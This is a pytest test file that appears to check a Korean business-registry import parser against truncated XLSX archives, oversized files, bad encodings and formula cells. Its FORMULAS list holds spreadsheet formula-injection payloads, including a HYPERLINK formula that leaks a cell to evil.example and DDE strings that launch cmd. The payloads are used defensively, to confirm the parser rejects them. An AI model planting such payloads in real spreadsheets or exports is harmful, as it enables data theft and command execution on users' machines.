"""Hostile import files: truncated XLSX, huge files, wrong encodings, formulas. Each is a file
error (ImportFileError, shown as a 422 naming `file`) or row errors; nothing else escapes."""

import io

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from service.registry import taxonomy
from service.registry.importer import (
    AGENCY_SPEC,
    FORMULA_REASON,
    MAX_ROWS,
    ImportFileError,
    looks_like_formula,
    parse,
)
from tests.factories import business_number
from tests.factories_registry import (
    AGENCY_HEADERS,
    HEADERS,
    agency_csv_bytes,
    agency_row,
    csv_bytes,
    firm_row,
    xlsx_bytes,
)

LEAVES = {c.code for c in taxonomy.CATEGORIES if c.parent_code is not None}
FAST = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
GOOD_XLSX = xlsx_bytes([firm_row(business_number()) for _ in range(30)])


class TestTruncatedXlsx:
    @pytest.mark.parametrize("keep", [4, 30, 200, 0.5, 0.9, -22, -1])
    def test_a_cut_zip_is_a_file_error(self, keep):
        cut = int(len(GOOD_XLSX) * keep) if isinstance(keep, float) else keep
        with pytest.raises(ImportFileError, match="xlsx"):
            parse(GOOD_XLSX[:cut], "firms.xlsx", LEAVES)

    @FAST
    @given(st.integers(min_value=1, max_value=len(GOOD_XLSX) - 1))
    def test_any_cut_is_a_file_error(self, cut):
        with pytest.raises(ImportFileError):
            parse(GOOD_XLSX[:cut], "firms.xlsx", LEAVES)

    def test_a_zip_that_is_not_a_workbook(self):
        import zipfile

        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("hello.txt", "not a workbook")
        with pytest.raises(ImportFileError):
            parse(buffer.getvalue(), "firms.xlsx", LEAVES)


class TestHugeFiles:
    def test_too_many_rows(self):
        content = csv_bytes([]) + b"".join(
            f"a{i},{business_number()},\xeb\xa7\x88\xed\x8f\xac\xea\xb5\xac\r\n".encode() for i in range(MAX_ROWS + 2)
        )
        with pytest.raises(ImportFileError, match="20,000"):
            parse(content, "firms.csv", LEAVES)

    def test_a_field_beyond_the_csv_limit(self):
        content = csv_bytes([]) + b'"' + b"x" * 200_000 + b'"\r\n'
        with pytest.raises(ImportFileError, match="CSV"):
            parse(content, "firms.csv", LEAVES)

    def test_a_long_cell_is_a_row_error(self):
        result = parse(csv_bytes([firm_row(business_number(), 소개="가" * 6000)]), "firms.csv", LEAVES)
        assert result.rows == [] and result.errors[0].column == "소개"
        assert len(result.errors[0].value) <= 200  # the echo of a bad value is bounded too

    def test_thousands_of_columns_are_cut(self):
        header = ",".join(HEADERS + [f"x{i}" for i in range(5000)])
        good = firm_row(business_number())
        row = ",".join([good.get(h, "") for h in HEADERS] + ["y"] * 5000)
        result = parse(f"{header}\r\n{row}\r\n".encode(), "firms.csv", LEAVES)
        assert len(result.rows) == 1

    @pytest.mark.parametrize("value", ["9" * 30, "-5", "1e400"])
    def test_out_of_range_numbers_are_row_errors(self, value):
        result = parse(csv_bytes([firm_row(business_number(), 계약가능금액=value)]), "f.csv", LEAVES)
        assert result.rows == [] and result.errors[0].column == "계약가능금액"


class TestWrongEncodings:
    def test_utf16_is_refused_with_a_clear_reason(self):
        for encoding in ("utf-16", "utf-16-le", "utf-16-be"):
            with pytest.raises(ImportFileError, match="UTF-16"):
                parse(csv_bytes([firm_row(business_number())], encoding), "firms.csv", LEAVES)

    def test_latin1_that_is_not_cp949(self):
        content = csv_bytes([firm_row(business_number())], "cp949") + "Café Crème,é à ü\r\n".encode("latin-1")
        with pytest.raises(ImportFileError, match="CP949"):
            parse(content, "firms.csv", LEAVES)

    def test_korean_misread_as_latin1_is_missing_columns(self):
        mojibake = csv_bytes([firm_row(business_number())]).decode("utf-8").encode("utf-8").decode("latin-1")
        with pytest.raises(ImportFileError):
            parse(mojibake.encode("utf-8"), "firms.csv", LEAVES)

    @FAST
    @given(st.binary(min_size=0, max_size=3000))
    def test_random_bytes(self, content):
        with pytest.raises(ImportFileError):
            parse(content, "firms.csv", LEAVES)

    @FAST
    @given(st.binary(min_size=1, max_size=2000), st.sampled_from(["utf-8", "cp949"]))
    def test_random_bytes_after_a_valid_header_never_escape(self, tail, encoding):
        content = csv_bytes([firm_row(business_number())], encoding) + tail
        try:
            result = parse(content, "firms.csv", LEAVES)
        except ImportFileError:
            return
        for row in result.rows:
            assert len(row.fields["business_number"]) == 10
        assert all(e.row >= 2 for e in result.errors)

    @FAST
    @given(st.text(min_size=1, max_size=80).filter(lambda v: "\x00" not in v))  # NUL: a file error
    def test_random_text_in_every_cell_is_a_row_error_or_valid(self, value):
        rows = [firm_row(business_number(), **{h: value}) for h in HEADERS]
        result = parse(csv_bytes(rows), "firms.csv", LEAVES)
        assert len(result.rows) + len({e.row for e in result.errors}) == result.total


FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"클릭")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    " =1+1",
]


class TestFormulaCells:
    @pytest.mark.parametrize("formula", FORMULAS)
    def test_csv_formula_in_a_text_column_is_a_row_error(self, formula):
        result = parse(csv_bytes([firm_row(business_number(), name=formula)], "cp949"), "f.csv", LEAVES)
        assert result.rows == []
        assert [(e.column, e.reason) for e in result.errors] == [("상호", FORMULA_REASON)]

    @pytest.mark.parametrize("formula", FORMULAS)
    def test_agency_formula_is_a_row_error(self, formula):
        rows = [agency_row(business_number(), 전화번호=formula)]
        result = parse(agency_csv_bytes(rows), "a.csv", LEAVES, AGENCY_SPEC)
        assert result.rows == [] and result.errors[0].column == "전화번호"

    def test_xlsx_formula_cells_are_refused_not_evaluated(self):
        rows = [
            firm_row(business_number(), name="=1+1"),
            {**firm_row(business_number(), name="정상기업"), "계약가능금액": "=1000*1000"},
            firm_row(business_number(), name="수식없는기업"),
        ]
        result = parse(xlsx_bytes(rows), "f.xlsx", LEAVES)
        assert [r.fields["name"] for r in result.rows] == ["수식없는기업"]
        assert [(e.row, e.column, e.reason) for e in result.errors] == [
            (2, "상호", FORMULA_REASON),
            (3, "계약가능금액", FORMULA_REASON),
        ]

    def test_xlsx_agency_formula(self):
        rows = [agency_row(business_number(), 기관명="@SUM(A1)")]
        result = parse(xlsx_bytes(rows, AGENCY_HEADERS), "a.xlsx", LEAVES, AGENCY_SPEC)
        assert result.rows == [] and result.errors[0].column == "기관명"

    @pytest.mark.parametrize("value", ["+82-2-123-4567", "-", "- 방역", "+"])
    def test_what_counts_as_a_formula(self, value):
        assert looks_like_formula(value) is (value not in ("+82-2-123-4567",))

    def test_international_phone_numbers_still_import(self):
        result = parse(csv_bytes([firm_row(business_number(), 전화번호="+82-2-123-4567")]), "f.csv", LEAVES)
        assert result.errors == [] and result.rows[0].fields["phone"] == "+82-2-123-4567"
